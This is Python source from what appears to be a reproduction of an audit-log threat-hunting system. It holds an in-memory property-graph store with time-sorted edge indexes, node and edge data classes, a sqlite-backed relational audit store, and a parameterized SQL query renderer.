            QueryError: if either endpoint is unknown or the edge id is a
                duplicate.
        """
        if edge.edge_id in self._edges:
            raise QueryError(f"duplicate edge id {edge.edge_id}")
        if edge.source_id not in self._nodes:
            raise QueryError(f"edge {edge.edge_id}: unknown source node {edge.source_id}")
        if edge.target_id not in self._nodes:
            raise QueryError(f"edge {edge.edge_id}: unknown target node {edge.target_id}")
        self._edges[edge.edge_id] = edge
        self._outgoing[edge.source_id][edge.relationship].append(edge.edge_id)
        self._incoming[edge.target_id][edge.relationship].append(edge.edge_id)

    def load_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Load system entities as nodes; returns the count loaded."""
        count = 0
        for entity in entities:
            self.add_node(
                Node(
                    node_id=entity.entity_id,
                    label=entity.entity_type.value,
                    properties=dict(entity.attributes(), host=entity.host),
                )
            )
            count += 1
        return count

    def load_events(self, events: Iterable[SystemEvent]) -> int:
        """Load system events as edges; returns the count loaded."""
        count = 0
        for event in events:
            self.add_edge(
                Edge(
                    edge_id=event.event_id,
                    source_id=event.subject_id,
                    target_id=event.object_id,
                    relationship=event.operation.value,
                    properties={
                        "starttime": event.start_time,
                        "endtime": event.end_time,
                        "amount": event.amount,
                        "eventtype": event.event_type.value,
                        "host": event.host,
                    },
                )
            )
            count += 1
        return count

    def load_trace(self, trace: AuditTrace) -> dict[str, int]:
        """Load a full audit trace; returns node/edge counts loaded."""
        return {
            "nodes": self.load_entities(trace.entities),
            "edges": self.load_events(trace.events),
        }

    # -- incremental loading -------------------------------------------------

    def has_node(self, node_id: int) -> bool:
        """True when a node with ``node_id`` is already stored."""
        return node_id in self._nodes

    def append_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Load entities whose ids are not yet present; returns the number added."""
        return self.load_entities(
            entity for entity in entities if entity.entity_id not in self._nodes
        )

    def append_batch(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> dict[str, int]:
        """Incrementally append one micro-batch of entities and events.

        Unlike :meth:`load_trace` this is safe to call repeatedly: nodes for
        entities observed in earlier batches are skipped rather than rejected
        as duplicates.
        """
        return {
            "nodes": self.append_entities(entities),
            "edges": self.load_events(events),
        }

    # -- node access ---------------------------------------------------------

    def node(self, node_id: int) -> Node:
        """Fetch one node by id.

        Raises:
            QueryError: if the id is unknown.
        """
        try:
            return self._nodes[node_id]
        except KeyError:
            raise QueryError(f"unknown node id {node_id}") from None

    def edge(self, edge_id: int) -> Edge:
        """Fetch one edge by id.

        Raises:
            QueryError: if the id is unknown.
        """
        try:
            return self._edges[edge_id]
        except KeyError:
            raise QueryError(f"unknown edge id {edge_id}") from None

    def nodes_with_label(self, label: str) -> Iterator[Node]:
        """All nodes carrying ``label``."""
        for node_id in self._label_index.get(label, ()):
            yield self._nodes[node_id]

    def find_nodes(self, label: str | None = None, **property_filters: Any) -> list[Node]:
        """Find nodes by label and exact property values.

        Uses the property index when an indexed property is filtered, otherwise
        scans the label bucket (or all nodes when no label is given).
        """
        if label is not None and property_filters:
            for property_name, value in property_filters.items():
                key = (label, property_name, value)
                if key in self._property_index:
                    candidates = [self._nodes[node_id] for node_id in self._property_index[key]]
                    return [
                        node
                        for node in candidates
                        if node.matches(label, **property_filters)
                    ]
        candidates_iter: Iterable[Node]
        if label is not None:
            candidates_iter = self.nodes_with_label(label)
        else:
            candidates_iter = self._nodes.values()
        return [node for node in candidates_iter if node.matches(label, **property_filters)]

    # -- traversal -------------------------------------------------------------

    def outgoing_edges(
        self, node_id: int, relationship: str | None = None
    ) -> Iterator[Edge]:
        """Outgoing edges of ``node_id``, optionally restricted to one type."""
        by_type = self._outgoing.get(node_id)
        if not by_type:
            return
        if relationship is not None:
            for edge_id in by_type.get(relationship, ()):
                yield self._edges[edge_id]
            return
        for edge_ids in by_type.values():
            for edge_id in edge_ids:
                yield self._edges[edge_id]

    def incoming_edges(
        self, node_id: int, relationship: str | None = None
    ) -> Iterator[Edge]:
        """Incoming edges of ``node_id``, optionally restricted to one type."""
        by_type = self._incoming.get(node_id)
        if not by_type:
            return
        if relationship is not None:
            for edge_id in by_type.get(relationship, ()):
                yield self._edges[edge_id]
            return
        for edge_ids in by_type.values():
            for edge_id in edge_ids:
                yield self._edges[edge_id]

    def neighbors(self, node_id: int, relationship: str | None = None) -> Iterator[Node]:
        """Target nodes of the outgoing edges of ``node_id``."""
        for edge in self.outgoing_edges(node_id, relationship):
            yield self._nodes[edge.target_id]

    # -- statistics --------------------------------------------------------------

    def node_count(self) -> int:
        return len(self._nodes)

    def edge_count(self) -> int:
        return len(self._edges)

    def statistics(self) -> dict[str, Any]:
        """Node/edge counts per label/relationship for EXPLAIN-style output."""
        per_label = {label: len(ids) for label, ids in self._label_index.items()}
        per_relationship: dict[str, int] = defaultdict(int)
        for edge in self._edges.values():
            per_relationship[edge.relationship] += 1
        return {
            "nodes": self.node_count(),
            "edges": self.edge_count(),
            "nodes_by_label": dict(per_label),
            "edges_by_relationship": dict(per_relationship),
        }
