"""The property-graph store (Neo4j substitute) for audit data.

:class:`GraphDatabase` stores system entities as nodes and system events as
edges, with three kinds of indexes that mirror what the paper relies on in
Neo4j ("indexes are created on key attributes to speed up the search"):

* a **label index** — node ids per label;
* **property indexes** — node ids per (label, property, value), created on the
  same key attributes the relational store indexes (name, exename, dstip);
* **adjacency indexes** — outgoing and incoming edge ids per node, grouped by
  relationship type and kept **sorted by edge start time**, which drive path
  pattern search.

Time-sorted adjacency is what makes temporally ordered path search cheap: a
forward expansion that must not go back in time bisects to the first edge
starting at or after the previous hop, and a backward expansion bisects to cut
everything after the next hop's start.  A global time index over all edges
supports window-seeded search (enumerate only the edges that started inside a
watermark window) and powers the streaming monitor's delta-seeded incremental
hunts.
"""

from __future__ import annotations

from bisect import bisect_left, bisect_right
from collections import defaultdict
from typing import Any, Iterable, Iterator

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import QueryError
from repro.storage.graph.model import Edge, Node

#: Node properties indexed by default, per label.
DEFAULT_PROPERTY_INDEXES: dict[str, tuple[str, ...]] = {
    "file": ("name",),
    "process": ("exename",),
    "network": ("dstip",),
}


class _TimeSortedEdges:
    """Edge ids kept sorted by start time, with O(1) in-order append.

    Audit streams arrive (nearly) in time order, so the common case is an
    append at the tail; out-of-order inserts fall back to ``insort``.  The two
    parallel arrays allow bisecting on start times while returning edge ids.
    """

    __slots__ = ("starts", "edge_ids")

    def __init__(self) -> None:
        self.starts: list[int] = []
        self.edge_ids: list[int] = []

    def __len__(self) -> int:
        return len(self.edge_ids)

    def add(self, start: int, edge_id: int) -> None:
        if not self.starts or start >= self.starts[-1]:
            self.starts.append(start)
            self.edge_ids.append(edge_id)
            return
        at = bisect_right(self.starts, start)
        self.starts.insert(at, start)
        self.edge_ids.insert(at, edge_id)

    def bounds(self, min_start: int | None, max_start: int | None) -> tuple[int, int]:
        lo = 0 if min_start is None else bisect_left(self.starts, min_start)
        hi = len(self.starts) if max_start is None else bisect_right(self.starts, max_start)
        return lo, hi

    def ids_between(self, min_start: int | None, max_start: int | None) -> list[int]:
        # Always a fresh slice, never the live internal list: a caller may
        # hold the result (or a generator over it) across an append, and an
        # out-of-order insert would shift elements under the iteration.
        lo, hi = self.bounds(min_start, max_start)
        return self.edge_ids[lo:hi]

    def count_between(self, min_start: int | None, max_start: int | None) -> int:
        lo, hi = self.bounds(min_start, max_start)
        return max(0, hi - lo)


class GraphDatabase:
    """In-memory property graph with time-sorted adjacency and property indexes."""

    def __init__(self) -> None:
        self._nodes: dict[int, Node] = {}
        self._edges: dict[int, Edge] = {}
        self._label_index: dict[str, set[int]] = defaultdict(set)
        self._property_index: dict[tuple[str, str, Any], set[int]] = defaultdict(set)
        self._outgoing: dict[int, dict[str, _TimeSortedEdges]] = {}
        self._incoming: dict[int, dict[str, _TimeSortedEdges]] = {}
        #: Global time index over every edge, total and per relationship type.
        self._edges_by_time = _TimeSortedEdges()
        self._edges_by_time_by_relationship: dict[str, _TimeSortedEdges] = {}

    def clear(self) -> None:
        """Drop every node, edge and index."""
        self._nodes.clear()
        self._edges.clear()
        self._label_index.clear()
        self._property_index.clear()
        self._outgoing.clear()
        self._incoming.clear()
        self._edges_by_time = _TimeSortedEdges()
        self._edges_by_time_by_relationship.clear()

    # -- loading -----------------------------------------------------------

    def add_node(self, node: Node) -> None:
        """Insert one node and maintain label/property indexes.

        Raises:
            QueryError: if a node with the same id already exists.
        """
        if node.node_id in self._nodes:
            raise QueryError(f"duplicate node id {node.node_id}")
        self._nodes[node.node_id] = node
        self._label_index[node.label].add(node.node_id)
        for property_name in DEFAULT_PROPERTY_INDEXES.get(node.label, ()):
            value = node.properties.get(property_name)
            if value is not None:
                self._property_index[(node.label, property_name, value)].add(node.node_id)

    def add_edge(self, edge: Edge) -> None:
        """Insert one edge and maintain adjacency and time indexes.

        Raises:
            QueryError: if either endpoint is unknown or the edge id is a
                duplicate.
        """
        if edge.edge_id in self._edges:
            raise QueryError(f"duplicate edge id {edge.edge_id}")
        if edge.source_id not in self._nodes:
            raise QueryError(f"edge {edge.edge_id}: unknown source node {edge.source_id}")
        if edge.target_id not in self._nodes:
            raise QueryError(f"edge {edge.edge_id}: unknown target node {edge.target_id}")
        self._edges[edge.edge_id] = edge
        start = edge.start_time
        self._adjacency_bucket(self._outgoing, edge.source_id, edge.relationship).add(
            start, edge.edge_id
        )
        self._adjacency_bucket(self._incoming, edge.target_id, edge.relationship).add(
            start, edge.edge_id
        )
        self._edges_by_time.add(start, edge.edge_id)
        by_relationship = self._edges_by_time_by_relationship.get(edge.relationship)
        if by_relationship is None:
            by_relationship = self._edges_by_time_by_relationship.setdefault(
                edge.relationship, _TimeSortedEdges()
            )
        by_relationship.add(start, edge.edge_id)

    @staticmethod
    def _adjacency_bucket(
        adjacency: dict[int, dict[str, _TimeSortedEdges]], node_id: int, relationship: str
    ) -> _TimeSortedEdges:
        by_type = adjacency.get(node_id)
        if by_type is None:
            by_type = adjacency.setdefault(node_id, {})
        bucket = by_type.get(relationship)
        if bucket is None:
            bucket = by_type.setdefault(relationship, _TimeSortedEdges())
        return bucket

    def load_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Load system entities as nodes; returns the count loaded."""
        count = 0
        for entity in entities:
            self.add_node(
                Node(
                    node_id=entity.entity_id,
                    label=entity.entity_type.value,
                    properties=dict(entity.attributes(), host=entity.host),
                )
            )
            count += 1
        return count

    def load_events(self, events: Iterable[SystemEvent]) -> int:
        """Load system events as edges; returns the count loaded."""
        count = 0
        for event in events:
            self.add_edge(
                Edge(
                    edge_id=event.event_id,
                    source_id=event.subject_id,
                    target_id=event.object_id,
                    relationship=event.operation.value,
                    properties={
                        "starttime": event.start_time,
                        "endtime": event.end_time,
                        "amount": event.amount,
                        "eventtype": event.event_type.value,
                        "host": event.host,
                    },
                )
            )
            count += 1
        return count

    def load_trace(self, trace: AuditTrace) -> dict[str, int]:
        """Load a full audit trace; returns node/edge counts loaded."""
        return {
            "nodes": self.load_entities(trace.entities),
            "edges": self.load_events(trace.events),
        }

    # -- incremental loading -------------------------------------------------

    def has_node(self, node_id: int) -> bool:
        """True when a node with ``node_id`` is already stored."""
        return node_id in self._nodes

    def append_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Load entities whose ids are not yet present; returns the number added."""
        return self.load_entities(
            entity for entity in entities if entity.entity_id not in self._nodes
        )

    def append_batch(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> dict[str, int]:
        """Incrementally append one micro-batch of entities and events.

        Unlike :meth:`load_trace` this is safe to call repeatedly: nodes for
        entities observed in earlier batches are skipped rather than rejected
        as duplicates.
        """
        return {
            "nodes": self.append_entities(entities),
            "edges": self.load_events(events),
        }

    # -- node access ---------------------------------------------------------

    def node(self, node_id: int) -> Node:
        """Fetch one node by id.

        Raises:
            QueryError: if the id is unknown.
        """
        try:
            return self._nodes[node_id]
        except KeyError:
            raise QueryError(f"unknown node id {node_id}") from None

    def edge(self, edge_id: int) -> Edge:
        """Fetch one edge by id.

        Raises:
            QueryError: if the id is unknown.
        """
        try:
            return self._edges[edge_id]
        except KeyError:
            raise QueryError(f"unknown edge id {edge_id}") from None

    def labels(self) -> tuple[str, ...]:
        """Every node label present in the label index."""
        return tuple(self._label_index)

    def label_count(self, label: str) -> int:
        """Number of nodes carrying ``label`` (O(1), from the label index)."""
        return len(self._label_index.get(label, ()))

    def property_index_count(self, label: str, property_name: str, value: Any) -> int | None:
        """Size of one property-index bucket, or ``None`` when not indexed."""
        if property_name not in DEFAULT_PROPERTY_INDEXES.get(label, ()):
            return None
        return len(self._property_index.get((label, property_name, value), ()))

    def nodes_with_label(self, label: str) -> Iterator[Node]:
        """All nodes carrying ``label``."""
        for node_id in self._label_index.get(label, ()):
            yield self._nodes[node_id]

    def find_nodes(self, label: str | None = None, **property_filters: Any) -> list[Node]:
        """Find nodes by label and exact property values.

        Uses the property index when an indexed property is filtered, otherwise
        scans the label bucket (or all nodes when no label is given).
        """
        if label is not None and property_filters:
            for property_name, value in property_filters.items():
                key = (label, property_name, value)
                if key in self._property_index:
                    candidates = [self._nodes[node_id] for node_id in self._property_index[key]]
                    return [
                        node
                        for node in candidates
                        if node.matches(label, **property_filters)
                    ]
        candidates_iter: Iterable[Node]
        if label is not None:
            candidates_iter = self.nodes_with_label(label)
        else:
            candidates_iter = self._nodes.values()
        return [node for node in candidates_iter if node.matches(label, **property_filters)]

    # -- traversal -------------------------------------------------------------

    def outgoing_edges(
        self,
        node_id: int,
        relationship: str | None = None,
        min_start: int | None = None,
        max_start: int | None = None,
    ) -> Iterator[Edge]:
        """Outgoing edges of ``node_id``, optionally restricted to one type.

        ``min_start``/``max_start`` bound the edges' start times (inclusive);
        the time-sorted adjacency arrays make the restriction a bisect, not a
        scan, so temporally pruned path search skips dead edges entirely.
        """
        yield from self._adjacent(self._outgoing, node_id, relationship, min_start, max_start)

    def incoming_edges(
        self,
        node_id: int,
        relationship: str | None = None,
        min_start: int | None = None,
        max_start: int | None = None,
    ) -> Iterator[Edge]:
        """Incoming edges of ``node_id``, optionally restricted to one type."""
        yield from self._adjacent(self._incoming, node_id, relationship, min_start, max_start)

    def _adjacent(
        self,
        adjacency: dict[int, dict[str, _TimeSortedEdges]],
        node_id: int,
        relationship: str | None,
        min_start: int | None,
        max_start: int | None,
    ) -> Iterator[Edge]:
        by_type = adjacency.get(node_id)
        if not by_type:
            return
        if relationship is not None:
            bucket = by_type.get(relationship)
            if bucket is None:
                return
            for edge_id in bucket.ids_between(min_start, max_start):
                yield self._edges[edge_id]
            return
        for bucket in by_type.values():
            for edge_id in bucket.ids_between(min_start, max_start):
                yield self._edges[edge_id]

    def out_degree(self, node_id: int, relationship: str | None = None) -> int:
        """Number of outgoing edges of ``node_id`` (O(1) per relationship bucket)."""
        return self._degree(self._outgoing, node_id, relationship)

    def in_degree(self, node_id: int, relationship: str | None = None) -> int:
        """Number of incoming edges of ``node_id`` (O(1) per relationship bucket)."""
        return self._degree(self._incoming, node_id, relationship)

    @staticmethod
    def _degree(
        adjacency: dict[int, dict[str, _TimeSortedEdges]],
        node_id: int,
        relationship: str | None,
    ) -> int:
        by_type = adjacency.get(node_id)
        if not by_type:
            return 0
        if relationship is not None:
            bucket = by_type.get(relationship)
            return len(bucket) if bucket is not None else 0
        return sum(len(bucket) for bucket in by_type.values())

    def edges_started_between(
        self,
        min_start: int | None,
        max_start: int | None,
        relationship: str | None = None,
    ) -> Iterator[Edge]:
        """Every edge whose start time lies in ``[min_start, max_start]``.

        Served from the global time index (per relationship type when one is
        given): the work is a bisect plus the matching edges, independent of
        total graph size — this is what seeds window-restricted and
        incremental (delta) path searches.
        """
        index = (
            self._edges_by_time
            if relationship is None
            else self._edges_by_time_by_relationship.get(relationship)
        )
        if index is None:
            return
        for edge_id in index.ids_between(min_start, max_start):
            yield self._edges[edge_id]

    def count_edges_started_between(
        self,
        min_start: int | None,
        max_start: int | None,
        relationship: str | None = None,
    ) -> int:
        """Number of edges starting in the window, by bisect (no enumeration)."""
        index = (
            self._edges_by_time
            if relationship is None
            else self._edges_by_time_by_relationship.get(relationship)
        )
        if index is None:
            return 0
        return index.count_between(min_start, max_start)

    def neighbors(self, node_id: int, relationship: str | None = None) -> Iterator[Node]:
        """Target nodes of the outgoing edges of ``node_id``."""
        for edge in self.outgoing_edges(node_id, relationship):
            yield self._nodes[edge.target_id]

    # -- statistics --------------------------------------------------------------

    def node_count(self) -> int:
        return len(self._nodes)

    def edge_count(self) -> int:
        return len(self._edges)

    def statistics(self) -> dict[str, Any]:
        """Node/edge counts per label/relationship for EXPLAIN-style output."""
        per_label = {label: len(ids) for label, ids in self._label_index.items()}
        per_relationship = {
            relationship: len(index)
            for relationship, index in self._edges_by_time_by_relationship.items()
        }
        return {
            "nodes": self.node_count(),
            "edges": self.edge_count(),
            "nodes_by_label": dict(per_label),
            "edges_by_relationship": per_relationship,
        }
