"""Property-graph data model for the graph backend (Neo4j substitute).

ThreatRaptor "stores system entities as nodes and system events as edges" in
Neo4j.  The reproduction mirrors this: a :class:`Node` carries a label (the
entity type) and a property map; an :class:`Edge` carries a relationship type
(the operation), a property map (timestamps, amount), and references its
source (subject) and destination (object) node ids.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Mapping


@dataclass(frozen=True)
class Node:
    """A graph node: one system entity.

    Attributes:
        node_id: Unique node id (equal to the entity id for audit data).
        label: Node label, e.g. ``"process"``, ``"file"`` or ``"network"``.
        properties: Property map (entity attributes).
    """

    node_id: int
    label: str
    properties: Mapping[str, Any] = field(default_factory=dict)

    def get(self, name: str, default: Any = None) -> Any:
        """Look up one property with an optional default."""
        return self.properties.get(name, default)

    def matches(self, label: str | None = None, **property_filters: Any) -> bool:
        """True when the node has ``label`` (if given) and all property values."""
        if label is not None and self.label != label:
            return False
        return all(self.properties.get(key) == value for key, value in property_filters.items())


@dataclass(frozen=True)
class Edge:
    """A graph edge: one system event.

    Attributes:
        edge_id: Unique edge id (equal to the event id for audit data).
        source_id: Node id of the subject entity.
        target_id: Node id of the object entity.
        relationship: Relationship type, e.g. ``"read"`` or ``"connect"``.
        properties: Property map (timestamps, amount, event type).
    """

    edge_id: int
    source_id: int
    target_id: int
    relationship: str
    properties: Mapping[str, Any] = field(default_factory=dict)

    def get(self, name: str, default: Any = None) -> Any:
        """Look up one property with an optional default."""
        return self.properties.get(name, default)

    @property
    def start_time(self) -> int:
        """Convenience accessor for the ``starttime`` property."""
        return int(self.properties.get("starttime", 0))

    @property
    def end_time(self) -> int:
        """Convenience accessor for the ``endtime`` property."""
        return int(self.properties.get("endtime", 0))


@dataclass(frozen=True)
class Path:
    """A path through the graph: alternating nodes and edges.

    Invariant: ``len(nodes) == len(edges) + 1`` and edge *i* connects
    ``nodes[i]`` to ``nodes[i + 1]`` in the traversal direction.
    """

    nodes: tuple[Node, ...]
    edges: tuple[Edge, ...]

    def __post_init__(self) -> None:
        if len(self.nodes) != len(self.edges) + 1:
            raise ValueError(
                f"invalid path: {len(self.nodes)} nodes with {len(self.edges)} edges"
            )

    @property
    def length(self) -> int:
        """Number of hops in the path."""
        return len(self.edges)

    @property
    def start(self) -> Node:
        return self.nodes[0]

    @property
    def end(self) -> Node:
        return self.nodes[-1]

    def node_ids(self) -> tuple[int, ...]:
        return tuple(node.node_id for node in self.nodes)

    def edge_ids(self) -> tuple[int, ...]:
        return tuple(edge.edge_id for edge in self.edges)
