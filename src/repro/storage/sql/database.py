"""sqlite3-backed relational audit store (``backend="sql"``).

The paper compiles each TBQL pattern "into a SQL data query which joins
entity tables with event table"; this module finally *executes* that output.
:class:`SqliteRelationalDatabase` mirrors the
:class:`~repro.storage.relational.database.RelationalDatabase` surface — same
schema, same bulk/append loading API, same ``execute(SelectQuery)`` entry
point — but keeps the rows in an in-memory sqlite database and runs the
parameterized SQL produced by :mod:`repro.storage.sql.render`.

Running on a real SQL engine makes this backend an independent oracle for the
differential harness: the Python executors share no code with sqlite's query
processor, so agreement on matched event ids is strong evidence both are
right.
"""

from __future__ import annotations

import sqlite3
from typing import Any, Iterable

from repro.auditing.entities import SystemEntity
from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace
from repro.errors import QueryError
from repro.storage.relational.database import (
    DEFAULT_HASH_INDEXES,
    DEFAULT_SORTED_INDEXES,
    ENTITY_SCHEMA,
    EVENT_SCHEMA,
)
from repro.storage.relational.query import OutputColumn, QueryResult, SelectQuery
from repro.storage.relational.table import TableSchema
from repro.storage.sql.render import RenderedSQL, render_select_query

_AFFINITY = {int: "INTEGER", str: "TEXT"}


def _create_table_sql(schema: TableSchema) -> str:
    columns = []
    for column in schema.columns:
        affinity = _AFFINITY.get(column.dtype or object, "")
        definition = f"{column.name} {affinity}".rstrip()
        if not column.nullable:
            definition += " NOT NULL"
        columns.append(definition)
    return f"CREATE TABLE {schema.name} ({', '.join(columns)})"


class SqliteRelationalDatabase:
    """In-memory sqlite3 store behind the ``RelationalDatabase`` surface.

    The audit schema and index set mirror the in-memory engine's
    (:data:`ENTITY_SCHEMA` / :data:`EVENT_SCHEMA` plus the default hash and
    sorted index columns, all rendered as ordinary sqlite indexes).
    """

    executor_name = "sql"

    def __init__(self) -> None:
        self._connection = sqlite3.connect(":memory:")
        self._schemas: dict[str, TableSchema] = {
            ENTITY_SCHEMA.name: ENTITY_SCHEMA,
            EVENT_SCHEMA.name: EVENT_SCHEMA,
        }
        self._create_schema()

    def _create_schema(self) -> None:
        cursor = self._connection.cursor()
        for schema in self._schemas.values():
            cursor.execute(_create_table_sql(schema))
        for table_name, columns in self._index_columns().items():
            for column in columns:
                cursor.execute(
                    f"CREATE INDEX idx_{table_name}_{column} "
                    f"ON {table_name} ({column})"
                )
        self._connection.commit()

    def _index_columns(self) -> dict[str, tuple[str, ...]]:
        merged: dict[str, tuple[str, ...]] = {}
        for table_name in self._schemas:
            hashed = DEFAULT_HASH_INDEXES.get(table_name, ())
            sorted_ = DEFAULT_SORTED_INDEXES.get(table_name, ())
            merged[table_name] = hashed + tuple(
                column for column in sorted_ if column not in hashed
            )
        return merged

    def clear(self) -> None:
        """Drop every row and rebuild the audit schema with fresh indexes."""
        cursor = self._connection.cursor()
        for table_name in self._schemas:
            cursor.execute(f"DROP TABLE IF EXISTS {table_name}")
        self._connection.commit()
        self._create_schema()

    # -- loading -----------------------------------------------------------

    def _insert_rows(self, table_name: str, rows: Iterable[dict[str, Any]]) -> int:
        schema = self._schemas[table_name]
        columns = schema.column_names()
        placeholders = ", ".join("?" for _ in columns)
        statement = (
            f"INSERT INTO {table_name} ({', '.join(columns)}) "
            f"VALUES ({placeholders})"
        )
        tuples = [
            tuple(validated[column] for column in columns)
            for validated in (schema.validate_row(row) for row in rows)
        ]
        self._connection.executemany(statement, tuples)
        self._connection.commit()
        return len(tuples)

    def load_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Bulk-insert entities; returns the number inserted."""
        return self._insert_rows("entities", (entity.to_row() for entity in entities))

    def load_events(self, events: Iterable[SystemEvent]) -> int:
        """Bulk-insert events; returns the number inserted."""
        return self._insert_rows("events", (event.to_row() for event in events))

    def load_trace(self, trace: AuditTrace) -> dict[str, int]:
        """Load a full audit trace; returns per-table row counts inserted."""
        return {
            "entities": self.load_entities(trace.entities),
            "events": self.load_events(trace.events),
        }

    # -- incremental loading -----------------------------------------------

    def has_entity(self, entity_id: int) -> bool:
        """True when an entity row with ``entity_id`` is already stored."""
        cursor = self._connection.execute(
            "SELECT 1 FROM entities WHERE id = ? LIMIT 1", (entity_id,)
        )
        return cursor.fetchone() is not None

    def append_entities(self, entities: Iterable[SystemEntity]) -> int:
        """Insert entities not yet present (by id); returns the number added."""
        fresh = [
            entity for entity in entities if not self.has_entity(entity.entity_id)
        ]
        return self._insert_rows("entities", (entity.to_row() for entity in fresh))

    def append_events(self, events: Iterable[SystemEvent]) -> int:
        """Append events to the store; returns the number added."""
        return self.load_events(events)

    def append_batch(
        self, entities: Iterable[SystemEntity], events: Iterable[SystemEvent]
    ) -> dict[str, int]:
        """Incrementally append one micro-batch of entities and events."""
        return {
            "entities": self.append_entities(entities),
            "events": self.append_events(events),
        }

    # -- querying ----------------------------------------------------------

    def table(self, name: str) -> Any:
        """The sqlite backend has no in-process :class:`Table` objects."""
        raise QueryError(
            f"the sql backend stores table {name!r} inside sqlite; "
            "row access goes through execute()"
        )

    def _prepared(self, query: SelectQuery) -> RenderedSQL:
        if query.projection:
            return render_select_query(query, parameterized=True)
        # Empty projection means "all columns of all aliases"; expand it from
        # the schema so output names stay the qualified ``alias.column`` form
        # the Python executors produce.
        expanded = SelectQuery(
            tables=list(query.tables),
            filters=dict(query.filters),
            joins=list(query.joins),
            cross_filters=list(query.cross_filters),
            projection=[
                OutputColumn(alias=ref.alias, column=column)
                for ref in query.tables
                for column in self._schema_for(ref.table).column_names()
            ],
            distinct=query.distinct,
            order_by=list(query.order_by),
            limit=query.limit,
        )
        return render_select_query(expanded, parameterized=True)

    def _schema_for(self, table_name: str) -> TableSchema:
        try:
            return self._schemas[table_name]
        except KeyError:
            raise QueryError(f"unknown table {table_name!r}") from None

    def execute(self, query: SelectQuery) -> QueryResult:
        """Execute a select-project-join query inside sqlite."""
        rendered = self._prepared(query)
        cursor = self._connection.execute(rendered.text, rendered.parameters)
        columns = tuple(description[0] for description in cursor.description)
        rows = tuple(tuple(row) for row in cursor.fetchall())
        return QueryResult(columns=columns, rows=rows)

    def explain(self, query: SelectQuery) -> list[str]:
        """The rendered SQL plus sqlite's ``EXPLAIN QUERY PLAN`` steps."""
        rendered = self._prepared(query)
        lines = render_select_query(query, parameterized=False, pretty=True).text.splitlines()
        plan_rows = self._connection.execute(
            f"EXPLAIN QUERY PLAN {rendered.text}", rendered.parameters
        ).fetchall()
        lines.extend(f"sqlite: {row[-1]}" for row in plan_rows)
        return lines

    # -- statistics ----------------------------------------------------------

    def statistics(self) -> dict[str, Any]:
        """Row counts and index info for every table (Table-compatible shape)."""
        stats: dict[str, Any] = {}
        index_columns = self._index_columns()
        for table_name in self._schemas:
            cursor = self._connection.execute(f"SELECT COUNT(*) FROM {table_name}")
            rows = cursor.fetchone()[0]
            stats[table_name] = {
                "name": table_name,
                "rows": rows,
                "hash_indexes": sorted(index_columns[table_name]),
                "sorted_indexes": sorted(index_columns[table_name]),
            }
        return stats

    def __len__(self) -> int:
        return sum(stats["rows"] for stats in self.statistics().values())
