"""Parameterized SQL rendering for relational queries.

The legacy ``Expression.to_sql`` strings interpolate literals into the text
and are kept for EXPLAIN output only.  This module renders a
:class:`~repro.storage.relational.query.SelectQuery` into **executable** SQL:
literals become ``?`` placeholders bound server-side, and per-alias column
qualification happens structurally on the expression tree (replacing the
character-level token rewrite ``sqlgen`` used to apply to rendered text).

The parameterized mode is engineered to agree row-for-row with
``Expression.evaluate``:

* Python evaluation is two-valued (``None`` operands make predicates
  **false**, never unknown), so every rendered predicate carries explicit
  ``IS NOT NULL`` guards and never yields SQL ``NULL`` — which keeps ``NOT``
  and nested disjunctions faithful.
* ``Comparison.evaluate`` coerces mixed string/non-string operands to
  strings; the rendering mirrors that with a ``typeof`` dispatch, and wraps
  column references in unary ``+`` so sqlite's column-affinity conversions
  cannot reintroduce numeric coercion behind our back.
* ``LIKE`` patterns are re-emitted in canonical backslash-escaped form with
  an explicit ``ESCAPE`` clause, so literal ``%``/``_`` match literally on
  both sides.

The inline (non-parameterized) mode mirrors the classic ``to_sql`` text with
qualification applied, and backs :func:`repro.storage.relational.sqlgen.render_select`.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from repro.errors import QueryError
from repro.storage.relational.expression import (
    LIKE_ESCAPE_CHAR,
    And,
    Between,
    Column,
    Comparison,
    Expression,
    InList,
    Like,
    Literal,
    Not,
    Or,
    TrueExpression,
    canonical_like_pattern,
)
from repro.storage.relational.query import SelectQuery


@dataclass(frozen=True)
class RenderedSQL:
    """SQL text plus the positional parameters it binds."""

    text: str
    parameters: tuple[Any, ...]


class ExpressionRenderer:
    """Renders :class:`Expression` trees to SQL, collecting bind parameters.

    Args:
        parameterized: Emit ``?`` placeholders with server-side binding and
            evaluate-faithful null/coercion semantics when True; mirror the
            legacy inline ``to_sql`` text (literals interpolated, no null
            guards) when False.
    """

    def __init__(self, parameterized: bool = True) -> None:
        self.parameterized = parameterized
        self.parameters: list[Any] = []

    # -- public API --------------------------------------------------------

    def predicate(self, expression: Expression, alias: str | None = None) -> str:
        """Render a boolean predicate, qualifying bare columns with ``alias``."""
        if isinstance(expression, Comparison):
            return self._comparison(expression, alias)
        if isinstance(expression, Like):
            return self._like(expression, alias)
        if isinstance(expression, InList):
            return self._in_list(expression, alias)
        if isinstance(expression, Between):
            return self._between(expression, alias)
        if isinstance(expression, And):
            return self._connective(expression.operands, "AND", alias)
        if isinstance(expression, Or):
            return self._connective(expression.operands, "OR", alias)
        if isinstance(expression, Not):
            return f"NOT ({self.predicate(expression.operand, alias)})"
        if isinstance(expression, TrueExpression):
            return "TRUE" if not self.parameterized else "1=1"
        if isinstance(expression, (Column, Literal)) and not self.parameterized:
            # Explain text tolerates odd trees; mirror ``to_sql`` faithfully.
            text, _ = self._operand(expression, alias)
            return text
        raise QueryError(
            f"cannot render {type(expression).__name__} as a boolean predicate"
        )

    # -- operands ----------------------------------------------------------

    def _operand(
        self, expression: Expression, alias: str | None
    ) -> tuple[str, tuple[Any, ...]]:
        """A value-position fragment: (sql text, parameters it binds)."""
        if isinstance(expression, Column):
            return self._qualified(expression, alias), ()
        if isinstance(expression, Literal):
            if self.parameterized:
                return "?", (expression.value,)
            return expression.to_sql(), ()
        raise QueryError(
            f"unsupported operand expression {type(expression).__name__}"
        )

